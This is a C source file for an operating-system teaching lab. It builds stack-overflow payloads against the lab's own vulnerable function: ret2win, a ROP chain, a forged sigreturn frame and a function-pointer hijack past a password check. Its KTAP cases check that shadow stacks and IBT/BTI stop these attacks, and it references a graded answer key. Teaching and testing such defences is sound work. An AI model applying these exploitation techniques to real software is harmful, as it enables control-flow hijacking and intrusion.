// SPDX-License-Identifier: MIT
/*
 * /bin/rop: the return-oriented attack lab (docs/labs/rop.md). The exploit
 * half: it overflows rop_victim()'s 32-byte stack buffer (victim.c) with a
 * payload that replaces a saved return address, and watches what happens.
 *
 *   ret2win: the saved return address becomes win(). Without shadow
 *   stacks the hijacked RET goes there: win() prints its marker line and
 *   exits WIN_STATUS.
 *   chain: the saved return address becomes the planted gadget (rop_arch.h),
 *   which loads ROP_KEY into the first argument register and returns into
 *   win(ROP_KEY): exit WIN_KEY_STATUS.
 *   With shadow stacks on (x86_64 CET, arm64 GCS) the same payload is
 *   caught at the hijacked RET: its target differs from the shadow stack's
 *   copy, the CPU raises #CP (SDM vol. 1 §17.2) or a GCS data check (Arm
 *   ARM D11), and the kernel sends SIGSEGV with SEGV_CPERR, si_addr 0 on
 *   x86_64 (docs/ABI.md §4.3) and the RET's address on arm64 (§5.3). The
 *   handler checks all of it, and the PC and target, then exits CAUGHT.
 *
 * Offsets come from rop_victim's own description of its frame (rop_frame),
 * taken by a first call with no input, never from constants.
 *
 * Usage: rop                       the KTAP cases (/init runs this)
 *        rop ret2win|chain [shstk]  one attack, told in words
 *        rop hex BYTES [shstk]      your own payload, two hex digits a byte
 *        rop srop [shstk]           the sigreturn-oriented attack, told in words
 *        rop answer SPEC [shstk]    a payload as OFFSET=WORD pairs (answer.h's form)
 *        rop fwd SPEC [on]          a notice payload, forward-edge checks off or on
 *        rop variant=N ...          as student variant N instead of this build's
 *
 *   The answers (docs/labs/rop.md §8, §9): user/rop/answer.h holds a chain
 *   for this build's variant and a forward-edge hijack, as SPECs: words at
 *   byte offsets, "OFF=WORD,OFF=WORD", a WORD a number or one of win,
 *   rop_gadget, rop_admin, each with an optional +N. The answer_* cases
 *   run them; an empty answer fails them.
 *
 *   srop (docs/labs/lab5-srop.md): a signal handler keeps a copy of its
 *   signal frame; later, with no signal pending, the program puts the copy
 *   on the stack with the PC at win(), SP on a stack of its own and
 *   ROP_KEY in the first argument register, and calls rt_sigreturn itself
 *   -- what an attacker who controls the stack and can reach a syscall
 *   instruction does. Without shadow stacks rt_sigreturn believes the frame:
 *   win(ROP_KEY) runs. With them rt_sigreturn first checks the shadow stack
 *   for the token the signal's delivery left (x86_64: the old SSP with bit
 *   63 set, docs/ABI.md §4.7; arm64: the signal cap, §5.7); the real return
 *   consumed it, so there is none, and the kernel kills the process with
 *   SIGSEGV.
 */
#include "answer.h"
#include "rop.h"
#include "rop_arch.h"
#include "shstk_enable.h"
#include "sig_arch.h"
#include "srop_arch.h"
#include "test.h"
#include <machine/syscall.h>
#include <ktap.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROP_KEY 0x524f505f4b455921ul /* "!YEK_POR": variant 0's key, win's argument */
#ifndef ROP_VARIANT
#define ROP_VARIANT 0 /* user/build.mk sets it from the student's id */
#endif
#define FILLER 0x41 /* 'A' */
#define PAYLOAD_MAX 512

/* The child's exit statuses: what happened. */
#define WIN_STATUS 42	  /* win() ran, without the key */
#define WIN_KEY_STATUS 43 /* win() ran with ROP_KEY: the gadget ran first */
#define CAUGHT 44	  /* SIGSEGV SEGV_CPERR at the hijacked RET, exactly as expected */
#define BAD_SIGNAL 81
#define BAD_SI_CODE 82
#define BAD_SI_ADDR 83
#define BAD_PC 84
#define BAD_TARGET 85
#define RETURNED 86	  /* rop_frontend returned: nothing was hijacked */
#define SELF_CHECK 87	  /* the frame is not laid out as victim.c expects */
#define LAYOUT_CHANGED 88 /* the attack's frame differs from the probe's */
#define BAD_INPUT 89
#define GRANTED 45    /* rop_granted() ran: the forward-edge hijack skipped rop_admin's check */
#define FWD_CAUGHT 46 /* the hijacked indirect call faulted at its target, as expected */
#define FWD_SETUP 90  /* turning the forward-edge checks on or off failed */
#define NO_ANSWER 91  /* answer.h's answer is empty */

enum attack { RET2WIN, CHAIN, HEX, SROP, ANSWER };

static unsigned long variant = ROP_VARIANT;
static unsigned long key = ROP_KEY; /* win's key: the variant's (set_variant) */
static const char *answer_spec;	    /* rop answer's or fwd's SPEC */
static bool fwd_on;		    /* the forward-edge attack: with IBT/BTI on */

/* Variant v's layout and key: variant 0 is the handout's, others a student's. */
static void set_variant(unsigned long v)
{
	variant = v;
	rop_layout = (unsigned int)(v % ROP_LAYOUTS);
	key = v ? ROP_KEY ^ (v * 0x9e3779b97f4a7c15ul) : ROP_KEY;
}

void rop_granted(void);
ROP_DEFINE_ADMIN();

/* IBT's probe (x86_64's rop_fwd_live): 0 when ENABLE(IBT) works. */
int rop_fwd_probe(void)
{
	return rop_fwd_on() ? 1 : 0;
}

static enum attack attack;
static unsigned char payload[PAYLOAD_MAX];
static size_t payload_len;
static unsigned long planted;  /* the word at the saved return address's slot */
static struct rop_frame probe; /* rop_frame after the call with no input */
static const char *hex_arg;    /* rop hex's BYTES */

/* Whether the attack's rop_victim frame has the probe's shape (the offsets the payload used). */
static bool same_layout(void)
{
	return rop_frame.slot - (unsigned long *)rop_frame.buf ==
		       probe.slot - (unsigned long *)probe.buf &&
	       rop_frame.sp_after - (unsigned long *)rop_frame.buf ==
		       probe.sp_after - (unsigned long *)probe.buf;
}

/*
 * The function no caller calls: reached only through a hijacked return.
 * Its stack is the attacker's, so it never returns: it exits.
 */
ROP_WIN_ATTR __attribute__((noreturn, noinline)) void win(unsigned long arg);
ROP_WIN_ATTR __attribute__((noreturn, noinline)) void win(unsigned long arg)
{
	if (!same_layout()) {
		note("win(): rop_victim's frame changed shape after the probe");
		syscall1(__NR_exit_group, LAYOUT_CHANGED);
	}
	if (arg == key) {
		note("rop: win(%#lx) reached: the gadget set the argument", arg);
		syscall1(__NR_exit_group, WIN_KEY_STATUS);
	}
	note("rop: win() reached");
	syscall1(__NR_exit_group, WIN_STATUS);
	__builtin_unreachable();
}

/* Appends the 8-byte little-endian word v at byte offset off of the payload. */
static void put_word(size_t off, unsigned long v)
{
	memcpy(payload + off, &v, sizeof(v));
	if (off + sizeof(v) > payload_len)
		payload_len = off + sizeof(v);
}

/* Reached only by a jump into the middle of rop_admin(), past its password check. */
ROP_WIN_ATTR __attribute__((noreturn, noinline)) void rop_granted(void)
{
	note("rop: rop_granted() reached: rop_admin()'s password check was skipped");
	syscall1(__NR_exit_group, GRANTED);
	__builtin_unreachable();
}

/* A SPEC's word: a number, or win, rop_gadget, rop_admin with an optional +N; false if bad. */
static bool spec_word(const char *w, size_t len, unsigned long *v)
{
	static const struct {
		const char *name;
		unsigned long addr;
	} syms[] = { { "win", (unsigned long)win },
		     { "rop_gadget", (unsigned long)rop_gadget },
		     { "rop_admin", (unsigned long)rop_admin } };
	char buf[64], *end;
	const char *plus;

	if (len == 0 || len >= sizeof(buf))
		return false;
	memcpy(buf, w, len);
	buf[len] = 0;
	plus = strchr(buf, '+');
	*v = 0;
	for (size_t i = 0; i < sizeof(syms) / sizeof(syms[0]); i++) {
		size_t n = strlen(syms[i].name);

		if (strncmp(buf, syms[i].name, n) == 0 && (buf[n] == 0 || buf + n == plus))
			*v = syms[i].addr;
	}
	if (!*v)
		return *v = strtoul(buf, &end, 0), end != buf && !*end;
	if (plus)
		*v += strtoul(plus + 1, &end, 0);
	return !plus || (end != plus + 1 && !*end);
}

/* Builds the payload of SPEC ("OFF=WORD,OFF=WORD" or with spaces), filler between. */
static bool spec_payload(const char *spec)
{
	memset(payload, FILLER, sizeof(payload));
	payload_len = 0;
	while (*spec) {
		char *end;
		unsigned long off = strtoul(spec, &end, 0), v;
		size_t n;

		if (end == spec || *end != '=' || off % 8 || off + 8 > PAYLOAD_MAX)
			return false;
		spec = end + 1;
		for (n = 0; spec[n] && spec[n] != ',' && spec[n] != ' '; n++)
			;
		if (!spec_word(spec, n, &v))
			return false;
		put_word(off, v);
		for (spec += n; *spec == ',' || *spec == ' '; spec++)
			;
	}
	return payload_len > 0;
}

static const char *target_name(unsigned long a)
{
	if (a == (unsigned long)win)
		return "win";
	if (a == (unsigned long)rop_gadget)
		return "the gadget";
	if (a == (unsigned long)rop_admin)
		return "rop_admin";
	if (a == (unsigned long)rop_admin + ROP_ADMIN_GRANT_OFFSET)
		return "rop_admin past its check";
	if (a == probe.saved)
		return "the honest return";
	return "somewhere else";
}

/* SIGSEGV in the attack's child: checks it is the shadow stack's verdict on the hijacked RET. */
static void on_segv(int sig, siginfo_t *si, void *uc)
{
	unsigned long addr = ((const struct user_siginfo *)si)->u.addr;
	unsigned long pc = sig_uc_pc(uc), target = ROP_UC_TARGET(uc);
	unsigned long want_addr = SIG_ARCH_CPERR_ADDR_IS_PC ? rop_frame.ret_pc : 0;

	if (sig != SIGSEGV) {
		note("signal %d, want SIGSEGV", sig);
		syscall1(__NR_exit_group, BAD_SIGNAL);
	}
	if (si->si_code != SEGV_CPERR) {
		note("SIGSEGV si_code %d at pc %#lx (si_addr %#lx), want SEGV_CPERR (%d)",
		     si->si_code, pc, addr, SEGV_CPERR);
		syscall1(__NR_exit_group, BAD_SI_CODE);
	}
	if (addr != want_addr) {
		note("SEGV_CPERR si_addr %#lx, want %#lx", addr, want_addr);
		syscall1(__NR_exit_group, BAD_SI_ADDR);
	}
	if (pc != rop_frame.ret_pc) {
		note("SEGV_CPERR at pc %#lx, want the hijacked RET at %#lx", pc, rop_frame.ret_pc);
		syscall1(__NR_exit_group, BAD_PC);
	}
	if (target != planted) {
		note("the RET at %#lx was going to %#lx, want the planted %#lx", pc, target,
		     planted);
		syscall1(__NR_exit_group, BAD_TARGET);
	}
	if (!same_layout()) {
		note("rop_victim's frame changed shape after the probe");
		syscall1(__NR_exit_group, LAYOUT_CHANGED);
	}
	note("rop: caught: SIGSEGV SEGV_CPERR si_addr %#lx at the RET at %#lx, "
	     "which was going to %#lx (%s); win() never ran",
	     addr, pc, target, target_name(target));
	syscall1(__NR_exit_group, CAUGHT);
}

/* Builds the payload for attack from the probe's offsets: true, or false for a bad one. */
static bool build_payload(void)
{
	size_t slot = (size_t)((char *)probe.slot - probe.buf);
	size_t sp = (size_t)((char *)probe.sp_after - probe.buf);

	memset(payload, FILLER, sizeof(payload));
	payload_len = 0;
	switch (attack) {
	case RET2WIN:
		put_word(slot, (unsigned long)win);
		break;
	case CHAIN:
		put_word(slot, (unsigned long)rop_gadget);
		/* What the gadget pops: its argument, then where it returns. */
		put_word(sp, key);
		put_word(sp + 8, (unsigned long)win);
		break;
	case HEX:
		for (const char *h = hex_arg; h[0]; h += 2) {
			char byte[3] = { h[0], h[1], 0 };
			char *end;

			if (!h[1] || payload_len == PAYLOAD_MAX)
				return false;
			payload[payload_len++] = (unsigned char)strtoul(byte, &end, 16);
			if (*end)
				return false;
		}
		/* The RET will try the saved word with the payload's bytes over it (little-endian). */
		planted = probe.saved;
		if (payload_len > slot)
			memcpy(&planted, payload + slot,
			       payload_len - slot < sizeof(planted) ? payload_len - slot
								    : sizeof(planted));
		return true;
	case SROP: /* no payload: srop_body() forges a signal frame instead */
		return false;
	case ANSWER:
		if (!spec_payload(answer_spec))
			return false;
		break;
	}
	memcpy(&planted, payload + slot, sizeof(planted));
	return true;
}

/* The attack, in a child: its exit status says what happened. */
static int attack_body(void)
{
	struct kernel_sigaction sa = { (unsigned long)on_segv, SA_SIGINFO | SA_RESTORER,
				       (unsigned long)sig_restorer, 0 };

	EXPECT("rt_sigaction", syscall4(__NR_rt_sigaction, SIGSEGV, (long)&sa, 0, 8), 0);
	rop_input_len = 0;
	rop_frontend(); /* the probe: rop_victim describes its frame */
	probe = rop_frame;
	if (probe.bad) {
		note("frame self-check: %s", probe.bad);
		return SELF_CHECK;
	}
	if (attack == ANSWER && !answer_spec[0]) {
		note("no answer yet: user/rop/answer.h (docs/labs/rop.md §9)");
		return NO_ANSWER;
	}
	if (!build_payload()) {
		note("rop: a bad payload: hex BYTES are pairs of hex digits, a SPEC OFF=WORD,... "
		     "(offsets multiples of 8), at most %d bytes",
		     PAYLOAD_MAX);
		return BAD_INPUT;
	}
	/* Here, not in the parent: on arm64 the saved word is the return into this function. */
	note("rop: the RET at %#lx will go to %#lx (%s)", probe.ret_pc, planted,
	     target_name(planted));
	rop_input = payload;
	rop_input_len = payload_len;
	rop_frontend(); /* the attack */
	note("rop_frontend returned: its return address survived");
	return RETURNED;
}

/* The copy of a real signal frame the SROP replays, and the stack win() gets. */
static unsigned char srop_frame[ROP_SROP_FRAME] __attribute__((aligned(16)));
static unsigned char srop_stack[16 * 1024] __attribute__((aligned(16)));

/* SIGUSR1's handler: keeps its own frame, then returns through rt_sigreturn as usual. */
static void on_usr1(int sig, siginfo_t *si, void *uc)
{
	(void)sig;
	(void)si;
	memcpy(srop_frame, (char *)uc - ROP_SROP_UC_OFFSET, sizeof(srop_frame));
}

/* The SROP, in a child: exits WIN_KEY_STATUS if the forged frame was believed. */
static int srop_body(void)
{
	struct kernel_sigaction sa = { (unsigned long)on_usr1, SA_SIGINFO | SA_RESTORER,
				       (unsigned long)sig_restorer, 0 };
	void *uc = srop_frame + ROP_SROP_UC_OFFSET;

	EXPECT("rt_sigaction", syscall4(__NR_rt_sigaction, SIGUSR1, (long)&sa, 0, 8), 0);
	EXPECT("kill(SIGUSR1)", syscall2(__NR_kill, syscall0(__NR_getpid), SIGUSR1), 0);
	EXPECT("the handler kept its frame", sig_uc_pc(uc) != 0, 1);
	rop_srop_forge(uc, (unsigned long)win, (unsigned long)(srop_stack + sizeof(srop_stack)),
		       key);
	note("rop: rt_sigreturn with a replayed frame: pc %#lx (win), first argument %#lx",
	     (unsigned long)win, key);
	rop_srop_sigreturn(srop_frame);
}

/* The forward-edge attack's fault: the hijacked call's target, reported as ROP_FWD_FEATURE does. */
static void on_fwd_fault(int sig, siginfo_t *si, void *uc)
{
	unsigned long addr = ((const struct user_siginfo *)si)->u.addr, pc = sig_uc_pc(uc);
	unsigned long want_addr = ROP_FWD_ADDR_IS_PC ? planted : 0;

	if (sig != ROP_FWD_SIGNAL || si->si_code != ROP_FWD_SI_CODE) {
		note("signal %d si_code %d, want %d and %d", sig, si->si_code, ROP_FWD_SIGNAL,
		     ROP_FWD_SI_CODE);
		syscall1(__NR_exit_group, BAD_SI_CODE);
	}
	if (addr != want_addr || pc != planted) {
		note("si_addr %#lx pc %#lx, want %#lx and the target %#lx", addr, pc, want_addr,
		     planted);
		syscall1(__NR_exit_group, BAD_PC);
	}
	note("rop: caught: %s stopped the call to %#lx (%s): no landing pad there", ROP_FWD_FEATURE,
	     pc, target_name(pc));
	syscall1(__NR_exit_group, FWD_CAUGHT);
}

/* The forward-edge attack, in a child: a notice payload overwrites rop_notice.report. */
static int fwd_body(void)
{
	struct kernel_sigaction sa = { (unsigned long)on_fwd_fault, SA_SIGINFO | SA_RESTORER,
				       (unsigned long)sig_restorer, 0 };
	long r;

	EXPECT("rt_sigaction", syscall4(__NR_rt_sigaction, ROP_FWD_SIGNAL, (long)&sa, 0, 8), 0);
	if (!answer_spec[0]) {
		note("no answer yet: user/rop/answer.h (docs/labs/rop.md §8)");
		return NO_ANSWER;
	}
	if (!spec_payload(answer_spec)) {
		note("rop fwd: a bad SPEC (OFF=WORD,..., offsets multiples of 8)");
		return BAD_INPUT;
	}
	if (!rop_admin_grant_ok((unsigned long)rop_admin)) {
		note("rop_admin's code is not as rop_arch.h describes it");
		return SELF_CHECK;
	}
	r = fwd_on ? rop_fwd_on() : rop_fwd_off();
	if (r) {
		note("turning %s %s: %ld", ROP_FWD_FEATURE, fwd_on ? "on" : "off", r);
		return FWD_SETUP;
	}
	/* The report pointer after the copy: the honest one with the payload's bytes over it. */
	planted = (unsigned long)rop_report_quietly;
	if (payload_len > ROP_NOTICE_SIZE)
		memcpy(&planted, payload + ROP_NOTICE_SIZE,
		       payload_len - ROP_NOTICE_SIZE < sizeof(planted)
			       ? payload_len - ROP_NOTICE_SIZE
			       : sizeof(planted));
	note("rop: the notice's report will be %#lx (%s), %s %s", planted, target_name(planted),
	     ROP_FWD_FEATURE, fwd_on ? "on" : "off");
	rop_post_notice(payload, payload_len);
	note("rop_post_notice returned: its report pointer called something that returned");
	return RETURNED;
}

/* rop_victim's frame, as the probe finds it: always 0 (checked by the self-check case). */
static int layout_body(void)
{
	rop_input_len = 0;
	rop_frontend();
	probe = rop_frame;
	note("variant %lu: win's key %#lx; buf %p; the saved return address (%s's) at buf + %ld "
	     "holds %#lx; SP after the RET at %#lx is buf + %ld",
	     variant, key, (void *)probe.buf, probe.own ? "the victim" : "rop_frontend",
	     (long)((char *)probe.slot - probe.buf), probe.saved, probe.ret_pc,
	     (long)((char *)probe.sp_after - probe.buf));
	if (probe.bad) {
		note("frame self-check: %s", probe.bad);
		return SELF_CHECK;
	}
	return 0;
}

/* One KTAP case: attack a in a child with shadow stacks as mode says, expecting exit status want. */
static void attack_case(const char *name, enum attack a, unsigned long mode, int want, bool live)
{
	if (case_skipped(name, mode ? LIVE : ANY, live, ROP_FEATURE))
		return;
	attack = a;
	ktap_ok(child_result(attack_body, mode, 0, want), "%s", name);
}

/* One KTAP case of answer.h's forward-edge answer, with IBT/BTI as on says. */
static void fwd_case(const char *name, bool on, int want, bool live)
{
	if (case_skipped(name, on ? LIVE : ANY, live, ROP_FWD_FEATURE))
		return;
	fwd_on = on;
	answer_spec = ROP_ANSWER_FWD;
	ktap_ok(child_result(fwd_body, 0, 0, want), "%s", name);
}

static int run_tests(void)
{
	bool live = have_shadow_stacks(), fwd_live = rop_fwd_live();

	ktap_header();
	ktap_plan(11);
	ktap_print_msg("%s, %s %s, %s %s; the gadget: %s; variant %lu", ROP_ARCH, ROP_FEATURE,
		       live ? "available" : "not supported", ROP_FWD_FEATURE,
		       fwd_live ? "available" : "not supported", ROP_GADGET_TEXT, variant);
	ktap_ok(child_result(layout_body, 0, 0, 0), "frame_layout_self_check");
	attack_case("ret2win_without_shadow_stack_reaches_win", RET2WIN, 0, WIN_STATUS, live);
	attack_case("rop_chain_without_shadow_stack_reaches_win_with_key", CHAIN, 0, WIN_KEY_STATUS,
		    live);
	attack_case("ret2win_with_shadow_stack_cperr", RET2WIN, SHSTK_MODE_ENABLE, CAUGHT, live);
	attack_case("rop_chain_with_shadow_stack_cperr", CHAIN, SHSTK_MODE_ENABLE, CAUGHT, live);
	ktap_ok(child_result(srop_body, 0, 0, WIN_KEY_STATUS),
		"srop_without_shadow_stack_reaches_win_with_key");
	if (!case_skipped("srop_with_shadow_stack_sigsegv", LIVE, live, ROP_FEATURE))
		ktap_ok(child_result(srop_body, SHSTK_MODE_ENABLE, SIGSEGV, 0),
			"srop_with_shadow_stack_sigsegv");
	answer_spec = ROP_ANSWER_CHAIN;
	attack_case("answer_chain_reaches_win_with_key", ANSWER, 0, WIN_KEY_STATUS, live);
	attack_case("answer_chain_with_shadow_stack_cperr", ANSWER, SHSTK_MODE_ENABLE, CAUGHT,
		    live);
	fwd_case("answer_fwd_hijack_without_landing_pads_reaches_granted", false, GRANTED,
		 fwd_live);
	fwd_case("answer_fwd_hijack_with_landing_pads_faults", true, FWD_CAUGHT, fwd_live);
	return ktap_finish();
}

/* Prints what a child's exit status st says, in words. */
static void tell(int st)
{
	if (WIFSIGNALED(st))
		printf("rop: the child died of signal %d\n", WTERMSIG(st));
	else if (WEXITSTATUS(st) == WIN_STATUS || WEXITSTATUS(st) == WIN_KEY_STATUS)
		printf("rop: hijacked: win() ran (exit %d%s)\n", WEXITSTATUS(st),
		       WEXITSTATUS(st) == WIN_KEY_STATUS ? ", with the key" : "");
	else if (WEXITSTATUS(st) == GRANTED)
		printf("rop: hijacked: rop_granted() ran (exit %d)\n", GRANTED);
	else if (WEXITSTATUS(st) == CAUGHT || WEXITSTATUS(st) == FWD_CAUGHT)
		printf("rop: caught by the %s (exit %d)\n",
		       WEXITSTATUS(st) == CAUGHT ? ROP_FEATURE : ROP_FWD_FEATURE, WEXITSTATUS(st));
	else
		printf("rop: the child exited %d (see its notes above)\n", WEXITSTATUS(st));
}

/* rop fwd SPEC [on]: the forward-edge attack, IBT/BTI off or on. */
static int run_fwd_demo(const char *spec, bool on)
{
	int st;

	if (on && !rop_fwd_live()) {
		printf("rop: this machine has no %s\n", ROP_FWD_FEATURE);
		return 2;
	}
	printf("rop: %s; rop_admin() at %#lx, rop_granted() at %#lx; the notice's report at "
	       "text + %d\n",
	       ROP_ARCH, (unsigned long)rop_admin, (unsigned long)rop_granted, ROP_NOTICE_SIZE);
	answer_spec = spec;
	fwd_on = on;
	st = run_child(fwd_body, 0);
	if (st == -1)
		return 1;
	tell(st);
	return 0;
}

/* rop ret2win|chain|hex BYTES|answer SPEC [shstk]: one attack, and what became of it in words. */
static int run_demo(int argc, char **argv)
{
	bool shstk = argc > 0 && strcmp(argv[argc - 1], "shstk") == 0;
	int st;

	if (argc >= 2 && strcmp(argv[0], "fwd") == 0)
		return run_fwd_demo(argv[1], argc == 3 && strcmp(argv[2], "on") == 0);
	if (shstk)
		argc--;
	if (argc == 1 && strcmp(argv[0], "ret2win") == 0) {
		attack = RET2WIN;
	} else if (argc == 1 && strcmp(argv[0], "chain") == 0) {
		attack = CHAIN;
	} else if (argc == 1 && strcmp(argv[0], "srop") == 0) {
		attack = SROP;
	} else if (argc == 2 && strcmp(argv[0], "hex") == 0) {
		attack = HEX;
		hex_arg = argv[1];
	} else if (argc == 2 && strcmp(argv[0], "answer") == 0) {
		attack = ANSWER;
		answer_spec = argv[1];
	} else {
		printf("usage: rop [variant=N] | rop [variant=N] ret2win|chain|srop [shstk] |\n"
		       "       rop [variant=N] hex BYTES|answer SPEC [shstk] | rop fwd SPEC "
		       "[on]\n");
		return 2;
	}
	if (shstk && !have_shadow_stacks()) {
		printf("rop: this machine has no %s\n", ROP_FEATURE);
		return 2;
	}
	printf("rop: %s; win() at %#lx, the gadget (%s) at %#lx\n", ROP_ARCH, (unsigned long)win,
	       ROP_GADGET_TEXT, (unsigned long)rop_gadget);
	if (attack == SROP) {
		printf("rop: the SROP runs in a child with %s %s\n", ROP_FEATURE,
		       shstk ? "on" : "off");
		st = run_child(srop_body, shstk ? SHSTK_MODE_ENABLE : 0);
		if (st != -1 && WIFSIGNALED(st))
			printf("rop: the child died of signal %d: rt_sigreturn refused the frame\n",
			       WTERMSIG(st));
		else if (st != -1)
			printf("rop: the child exited %d%s\n", WEXITSTATUS(st),
			       WEXITSTATUS(st) == WIN_KEY_STATUS ? ": win() ran" : "");
		return st == -1;
	}
	if (layout_body() != 0)
		return 1;
	if (!build_payload()) {
		printf("rop hex: BYTES must be pairs of hex digits, at most %d bytes\n",
		       PAYLOAD_MAX);
		return 2;
	}
	printf("rop: payload, %zu bytes:", payload_len);
	for (size_t i = 0; i < payload_len; i++)
		printf("%s%02x", i % 8 ? "" : " ", payload[i]);
	printf("\nrop: the attack runs in a child with %s %s\n", ROP_FEATURE, shstk ? "on" : "off");
	st = run_child(attack_body, shstk ? SHSTK_MODE_ENABLE : 0);
	if (st == -1)
		return 1;
	tell(st);
	return 0;
}

int main(int argc, char **argv)
{
	set_variant(ROP_VARIANT);
	if (argc > 1 && strncmp(argv[1], "variant=", 8) == 0) {
		set_variant(strtoul(argv[1] + 8, NULL, 0));
		argc--, argv++;
	}
	if (argc > 1)
		return run_demo(argc - 1, argv + 1);
	return run_tests();
}
